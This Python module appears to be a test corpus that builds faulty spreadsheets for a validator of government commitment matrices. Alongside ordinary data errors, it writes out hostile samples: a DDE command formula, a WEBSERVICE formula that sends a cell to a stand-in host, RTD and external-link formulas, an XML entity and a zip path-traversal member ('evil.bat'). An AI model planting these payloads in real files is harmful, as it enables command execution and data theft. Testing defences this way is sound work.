"""Files that must be refused: what is no matrix, what cannot be told, what must not be taken (matrix.md, section 5)."""

from __future__ import annotations

import gzip
import io
import zipfile
from typing import Any

import xlsxwriter

from tests.reports.matrix.corpus.bad_files import SHEET, sound
from tests.reports.matrix.corpus.making import Book, Builder, edited, packed, parts_of
from tests.reports.matrix.corpus2.making import bad, fill

HEAD = ("No", "Komitmen", "Kegiatan", "Instansi Pelaksana", "Target", "Progres (%)", "Status", "Batas Waktu")


def row(number: int, **changed: Any) -> tuple[Any, ...]:
    """A row with nothing wrong but what is changed; the names are those of the fields."""
    cells: dict[str, Any] = {"no": number, "title": "Data terbuka", "step": f"Kegiatan {number}", "lead": "BPS"}
    cells |= {"target": f"{number} data", "percent": 50, "status": "Sedang berjalan", "due": "30 Juni 2024"} | changed
    return tuple(cells.values())


def workbook(*rows: tuple[Any, ...], name: str = "Matriks", at: str = "A1") -> bytes:
    book = Book()
    fill(book.sheet(name), at, *rows)
    return book.data()


# What is no workbook, or not one that may be opened


@bad("x01_gambar.xlsx", "A picture under another name", "not_a_workbook", or_topics=["wrong_format"])
def picture() -> bytes:
    return bytes.fromhex("89504E470D0A1A0A0000000D49484452") + bytes(range(256)) * 4


@bad("x02_spasi.xlsx", "Nothing but blanks and line ends", "not_a_workbook", or_topics=["empty_file", "wrong_format"])
def blanks() -> bytes:
    return b"   \r\n \r\n"


@bad("x03_gzip.xlsx", "A gzip file", "not_a_workbook", or_topics=["wrong_format"])
def gzipped() -> bytes:
    return gzip.compress(sound().data(), mtime=0)


@bad("x04_xml_2003.xls", "XML Spreadsheet 2003", "wrong_format", or_topics=["not_a_workbook"])
def xml_spreadsheet() -> bytes:
    return (
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>'
    )


@bad("x05_rtf.xlsx", "Rich text format", "not_a_workbook", or_topics=["wrong_format"])
def rich_text_format() -> bytes:
    return rb"{\rtf1\ansi Matriks target capaian}"


@bad("x06_presentasi.xlsx", "A presentation renamed", "wrong_format", or_topics=["not_a_workbook"])
def presentation() -> bytes:
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
        'PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'presentationml.presentation.main+xml"/></Types>'
    )
    return packed({"[Content_Types].xml": types.encode(), "ppt/presentation.xml": b"<p/>"})


@bad("x07_templat.xltm", "Macro sheets of Excel 4", "macros_not_allowed")
def macro_sheets() -> bytes:
    override = (
        '<Override PartName="/xl/macrosheets/sheet1.xml"'
        ' ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    )
    parts = parts_of(edited(sound().data(), "[Content_Types].xml", ("</Types>", override)))
    parts["xl/macrosheets/sheet1.xml"] = b"<xm:macrosheet xmlns:xm='urn:x'/>"
    return packed(parts)


@bad("x08_daftar_isi_paket_hilang.xlsx", "[Content_Types].xml is missing", "corrupt_file", or_topics=["not_a_workbook"])
def no_content_types() -> bytes:
    parts = parts_of(sound().data())
    del parts["[Content_Types].xml"]
    return packed(parts)


@bad(
    "x09_arsip_bersandi.xlsx",
    "Members encrypted by the zip program",
    "password_protected",
    or_topics=["unsafe_archive", "corrupt_file"],
)
def encrypted_members() -> bytes:
    data = bytearray(sound().data())
    for signature, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flag] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


@bad("x10_doctype_di_gaya.xlsx", "An entity in the styles", "unsafe_xml")
def entity_in_styles() -> bytes:
    parts = parts_of(sound().data())
    styles = parts["xl/styles.xml"].decode()
    head, _, rest = styles.partition("?>") if styles.startswith("<?xml") else ("", "", styles)
    start = f"{head}?>" if head else ""
    parts["xl/styles.xml"] = (start + '<!DOCTYPE styleSheet [<!ENTITY x "y">]>' + rest).encode()
    return packed(parts)


@bad("x11_nama_ganda.xlsx", "The sheet stands twice in the archive", "unsafe_archive", or_topics=["corrupt_file"])
def member_twice() -> bytes:
    stream = io.BytesIO(sound().data())
    with zipfile.ZipFile(stream, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(SHEET, b"<worksheet/>")
    return stream.getvalue()


@bad("x12_garis_miring_terbalik.xlsx", "A member that climbs out with backslashes", "unsafe_archive")
def backslashes() -> bytes:
    return packed(parts_of(sound().data()) | {"..\\..\\Startup\\evil.bat": b"echo"})


@bad(
    "x13_rusak_di_tengah.xlsx",
    "A run of zeros over the middle of the file",
    "corrupt_file",
    or_topics=["unsafe_archive"],
)
def zeros_in_the_middle() -> bytes:
    data = bytearray(sound().data())
    middle = data.find(b"xl/worksheets/sheet1.xml") + 40
    data[middle : middle + 120] = bytes(120)
    return bytes(data)


@bad("x14_xml_tidak_tertutup.xlsx", "The sheet's XML ends early", "corrupt_file")
def unclosed() -> bytes:
    parts = parts_of(sound().data())
    parts[SHEET] = parts[SHEET][: len(parts[SHEET]) // 2]
    return packed(parts)


# What is no matrix


@bad(
    "x20_daftar_cuti.xlsx",
    "A list of leave: start, end and remarks, but no commitment",
    "no_recognisable_header",
    or_topics=["missing_required_value"],
)
def leave() -> bytes:
    return workbook(
        ("REKAPITULASI CUTI PEGAWAI TAHUN 2024",),
        (),
        ("No", "Nama Pegawai", "NIP", "Jenis Cuti", "Tanggal Mulai", "Tanggal Selesai", "Keterangan"),
        (1, "Pegawai Satu", "1980", "Tahunan", "1 Juni 2024", "5 Juni 2024", "disetujui"),
        (2, "Pegawai Dua", "1981", "Sakit", "3 Juli 2024", "4 Juli 2024", None),
    )


@bad(
    "x21_susunan_acara.xlsx",
    "The programme of a meeting",
    "no_recognisable_header",
    or_topics=["missing_required_value"],
)
def programme() -> bytes:
    return workbook(
        ("SUSUNAN ACARA RAPAT KOORDINASI OGI",),
        (),
        ("Waktu", "Kegiatan", "Penanggung Jawab", "Keterangan"),
        ("08.30-09.00", "Registrasi", "Panitia", None),
        ("09.00-09.15", "Pembukaan", "Bappenas", "Daring"),
    )


@bad("x22_belanja.xlsx", "Spending by account", "no_recognisable_header", or_topics=["missing_required_value"])
def spending() -> bytes:
    return workbook(
        ("REALISASI BELANJA",),
        ("Kode Akun", "Uraian", "Pagu", "Realisasi", "Sisa", "%"),
        ("521211", "Belanja bahan", 1000000, 800000, 200000, 80),
        ("524111", "Perjalanan dinas", 5000000, 5000000, 0, 100),
        ("Jumlah", None, 6000000, 5800000, 200000, 96.7),
    )


@bad(
    "x23_pengadaan.xlsx",
    "A list of procurements with a status",
    "no_recognisable_header",
    or_topics=["missing_required_value"],
)
def procurement() -> bytes:
    return workbook(
        ("No", "Nama Paket", "Metode", "Pagu", "Penyedia", "Status"),
        (1, "Pengadaan laptop", "E-katalog", 100000000, "PT Contoh", "Selesai"),
        (2, "Sewa ruang", "Pengadaan langsung", 20000000, "CV Contoh", "Proses"),
    )


@bad(
    "x24_teks_titik_koma.xlsx",
    "A semicolon list opened as one column",
    "no_recognisable_header",
    or_topics=["wrong_format"],
)
def semicolons_in_a_column() -> bytes:
    return workbook(
        ("No;Komitmen;Rencana Aksi;Penanggung Jawab;Target;Status",),
        ("1;Data terbuka;Portal;BPS;1 portal;Selesai",),
        ("2;Data terbuka;Kamus;BPS;1 kamus;Belum mulai",),
    )


@bad("x25_surat.xlsx", "A letter typed into cells", "no_recognisable_header")
def letter() -> bytes:
    return workbook(
        ("KEMENTERIAN PPN/BAPPENAS",),
        ("Nomor : 123/OGI/2024",),
        ("Hal : Undangan Rapat Komitmen dan Rencana Aksi",),
        (),
        ("Dengan hormat, bersama ini kami mengundang K/L penanggung jawab komitmen.",),
        ("Status kehadiran agar dikonfirmasi.",),
    )


@bad("x26_grafik_saja.xlsx", "Empty sheets with borders only", "empty_workbook")
def borders_only() -> bytes:
    book = Book()
    book.sheet("Lembar1").boxes(1, 20, 8)
    return book.data()


# A matrix without rows, or with columns that cannot be told apart


@bad("x30_dua_baris_judul_saja.xlsx", "Two header rows, a number row and nothing under them", "no_data_rows")
def two_header_rows_only() -> bytes:
    return workbook(
        ("MATRIKS TARGET CAPAIAN",),
        ("No", "Komitmen", "Ukuran Keberhasilan", "Target", None, "Penanggung Jawab"),
        (None, None, None, 2023, 2024),
        ("(1)", "(2)", "(3)", "(4)", "(5)", "(6)"),
    )


@bad("x31_bernomor_tanpa_isi.xlsx", "Rows numbered 1 to 10 and dashes", "no_data_rows")
def numbered_but_empty() -> bytes:
    return workbook(HEAD, *((number, None, None, None, "-", "-") for number in range(1, 11)))


@bad("x32_dua_target.xlsx", "Two columns Target without a period", "ambiguous_header", error_cells=[])
def two_targets() -> bytes:
    return workbook(
        ("No", "Komitmen", "Ukuran Keberhasilan", "PJ", "Target", "Target", "Status"),
        (1, "Data terbuka", "Portal", "BPS", "1 portal", "2 portal", "Selesai"),
        (2, "Data terbuka", "Kamus", "BPS", "3 kamus", "1 kamus", "Selesai"),
    )


@bad("x33_dua_penanggung_jawab.xlsx", "Penanggung Jawab and Instansi Pelaksana disagree", "ambiguous_header")
def two_leads() -> bytes:
    return workbook(
        ("No", "Komitmen", "Kegiatan", "Penanggung Jawab", "Instansi Penanggung Jawab", "Target"),
        (1, "Data terbuka", "Portal", "BPS", "Kominfo", "1 portal"),
        (2, "Data terbuka", "Kamus", "Kominfo", "BPS", "1 kamus"),
    )


@bad(
    "x34_tanpa_komitmen.xlsx",
    "Nothing says which commitment",
    "missing_required_value",
    or_topics=["no_recognisable_header"],
)
def no_commitment() -> bytes:
    return workbook(
        ("No", "Ukuran Keberhasilan", "Penanggung Jawab", "Target", "Capaian", "Status"),
        (1, "Portal terbit", "BPS", "1 portal", "1 portal", "Selesai"),
        (2, "Kamus terbit", "BPS", "1 kamus", None, "Belum mulai"),
    )


# Cells that cannot be taken


@bad(
    "x40_persen_triwulan.xlsx",
    "Wrong percentages under merged quarters",
    "percent_out_of_range",
    other_topics=["invalid_percent"],
    error_cells=["Matriks!E3", "Matriks!F3", "Matriks!E4"],
)
def percentages() -> bytes:
    return workbook(
        ("No", "Komitmen", "Kegiatan", "PJ", "Capaian (%) TW I", "Capaian (%) TW II"),
        (*row(1)[:4], 50, "100%"),
        (*row(2)[:4], "1050%", -5),
        (*row(3)[:4], "separuh lebih", 20),
    )


@bad(
    "x41_hari_yang_tidak_ada.xlsx",
    "Days that no calendar has",
    "invalid_date",
    error_cells=["Matriks!H2", "Matriks!H4", "Matriks!H5"],
)
def dates() -> bytes:
    rows = (row(1, due="30 Februari 2024"), row(2), row(3, due="31/04/2024"), row(4, due="15-13-2024"))
    return workbook(HEAD, *rows)


@bad("x42_status_inggris.xlsx", "Status words nobody knows", "unknown_status", error_cells=["Matriks!G2", "Matriks!G3"])
def words_of_status() -> bytes:
    return workbook(HEAD, row(1, status="kinda done"), row(2, status="aman terkendali"), row(3))


@bad("x43_tahun.xlsx", "Years that are none", "invalid_year", error_cells=["Matriks!E2", "Matriks!E3"])
def years() -> bytes:
    return workbook(
        ("No", "Komitmen", "Kegiatan", "PJ", "Tahun", "Target"),
        (1, "Data terbuka", "Portal", "BPS", "20x4", "1 portal"),
        (2, "Data terbuka", "Kamus", "BPS", 204, "1 kamus"),
        (3, "Data terbuka", "Uji", "BPS", 2024, "1 uji"),
    )


@bad(
    "x44_galat.xlsx",
    "#N/A in a commitment and #VALUE! in a status",
    "error_value_in_cell",
    error_cells=["Matriks!B2", "Matriks!G3"],
)
def errors() -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Matriks")
        for number, values in enumerate((HEAD, row(1), row(2), row(3))):
            sheet.write_row(number, 0, values)
        sheet.write_formula("B2", "=VLOOKUP(A2,X1:Y9,2)", None, "#N/A")
        sheet.write_formula("G3", "=1+A1", None, "#VALUE!")
    return stream.getvalue()


@bad(
    "x45_rumus_tanpa_hasil.xlsx",
    "Formulas that openpyxl wrote, never calculated",
    "formula_without_value",
    error_cells=["Matriks!F2", "Matriks!E3"],
)
def uncalculated() -> bytes:
    book = Book()
    sheet = book.sheet("Matriks")
    fill(sheet, "A1", HEAD, row(1), row(2))
    sheet.worksheet["F2"] = "=10/20"
    sheet.worksheet["E3"] = '="1 "&"data"'
    return book.data()


def _calling(formula: str) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Matriks")
        for number, values in enumerate((HEAD, row(1), row(2))):
            sheet.write_row(number, 0, values)
        sheet.write_formula("E2", formula, None, "1 data")
    return stream.getvalue()


@bad("x46_webservice.xlsx", "WEBSERVICE", "formula_injection", error_cells=["Matriks!E2"])
def web_service() -> bytes:
    return _calling('=_xlfn.WEBSERVICE("http://contoh.test/?"&A2)')


@bad("x47_rtd.xlsx", "RTD", "formula_injection", error_cells=["Matriks!E2"])
def real_time_data() -> bytes:
    return _calling('=RTD("prog.id",,"x")')


@bad("x48_dde.xlsx", "DDE", "formula_injection", error_cells=["Matriks!E2"])
def exchange() -> bytes:
    return _calling("=cmd|'/c calc'!A0")


@bad("x49_buku_lain.xlsx", "Another workbook", "formula_injection", error_cells=["Matriks!E2"])
def another_book() -> bytes:
    return _calling("='C:\\data\\[lain.xlsx]Sheet1'!$A$1")


@bad("x50_kembar_dalam_gabungan.xlsx", "The same row twice under a merged commitment", "duplicate_rows")
def twins() -> bytes:
    book = Book()
    sheet = book.sheet("Matriks")
    fill(
        sheet,
        "A1",
        ("No", "Komitmen", "Ukuran Keberhasilan", "Kegiatan", "PJ", "Target", "Realisasi"),
        (1, "Data terbuka", "Portal terbit", "Uji coba", "BPS", "1 portal", "1 portal"),
        (None, None, None, "Publikasi", None, "1 portal", None),
        (None, None, None, "Uji coba", None, "1 portal", "1 portal"),
    )
    sheet.merge("A2:A4", "B2:B4", "C2:C4", "E2:E4")
    return book.data()


@bad("x51_judul_berbeda.xlsx", "Section rows give commitment 2 two titles", "conflicting_commitment")
def two_titles() -> bytes:
    return workbook(
        ("No", "Rencana Aksi", "Penanggung Jawab", "Target"),
        ("Komitmen 2: Keterbukaan data bansos",),
        (1, "Uji coba", "Kemensos", "10 kota"),
        ("Komitmen 2: Transparansi pengadaan darurat",),
        (1, "Purwarupa", "LKPP", "1 dasbor"),
    )


@bad("x52_komitmen_kosong_di_awal.xlsx", "The first rows have no commitment", "missing_required_value")
def orphan() -> bytes:
    return workbook(HEAD, row(1, title=None), row(2), row(3))


@bad(
    "x53_progres_pecahan.xlsx",
    "0.4 and 0,9 in a column Progres",
    "ambiguous_percent",
    error_cells=["Matriks!E2", "Matriks!E3"],
)
def fractions() -> bytes:
    return workbook(
        ("No", "Komitmen", "Kegiatan", "PJ", "Progres"),
        (1, "Data terbuka", "Portal", "BPS", 0.4),
        (2, "Data terbuka", "Kamus", "BPS", "0,9"),
    )


@bad(
    "x54_semua_sekaligus.xlsx",
    "Problems on two sheets, all at once",
    "unknown_status",
    other_topics=["percent_out_of_range", "invalid_date"],
    error_cells=["KPU!G2", "Bawaslu!F3", "Bawaslu!H2"],
)
def everything() -> bytes:
    book = Book()
    fill(book.sheet("KPU"), "A1", HEAD, row(1, status="gitu deh"), row(2))
    fill(book.sheet("Bawaslu"), "A1", HEAD, row(1, due="31 November 2024"), row(2, percent=300))
    return book.data()


@bad("x55_kendali.xlsx", "A bell in a commitment", "control_characters", error_cells=["Matriks!B2"])
def bell() -> bytes:
    return edited(workbook(HEAD, row(1, title="Data@terbuka"), row(2)), SHEET, ("Data@terbuka", "Data_x0007_terbuka"))


@bad("x56_terlalu_panjang.xlsx", "33,000 characters", "cell_too_long", error_cells=["Matriks!E2"])
def long_cell() -> bytes:
    return edited(workbook(HEAD, row(1, target="@@@"), row(2)), SHEET, ("@@@", "panjang " * 4125))


@bad("x57_kolom_ke_300.xlsx", "A note in column 300", "too_large")
def far_column() -> bytes:
    book = Book()
    sheet = book.sheet("Matriks")
    fill(sheet, "A1", HEAD, row(1), row(2))
    sheet.put(2, 300, "jauh")
    return book.data()


BUILDERS: list[Builder] = [
    value
    for value in list(globals().values())
    if getattr(value, "__qualname__", "").endswith("decorate.<locals>.build")
]
